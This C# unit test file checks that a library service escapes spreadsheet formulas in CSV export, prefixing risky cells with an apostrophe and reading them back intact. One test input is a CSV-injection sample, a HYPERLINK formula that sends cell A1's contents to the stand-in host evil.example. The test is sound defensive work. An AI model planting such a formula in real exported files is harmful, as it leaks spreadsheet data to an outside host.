using Library.ServiceDefaults;

namespace Library.BookService.Tests;

/// <summary>CSV cells that spreadsheets would run as formulas are written as text and read back unchanged.</summary>
public sealed class SpreadsheetTextTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")]
    [InlineData("+1+1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1)")]
    [InlineData("\tTabbed")]
    public void A_cell_that_starts_like_a_formula_is_written_as_text_and_reads_back(string text)
    {
        var cell = SpreadsheetText.ToCell(text);
        Assert.StartsWith("'", cell, StringComparison.Ordinal);
        Assert.Equal(text, SpreadsheetText.FromCell(cell));
    }

    [Theory]
    [InlineData("Heart of Darkness")]
    [InlineData("'Tis the Season")]
    [InlineData("")]
    [InlineData("1984")]
    public void Other_text_is_left_as_it_is_both_ways(string text)
    {
        Assert.Equal(text, SpreadsheetText.ToCell(text));
        Assert.Equal(text, SpreadsheetText.FromCell(text));
    }
}
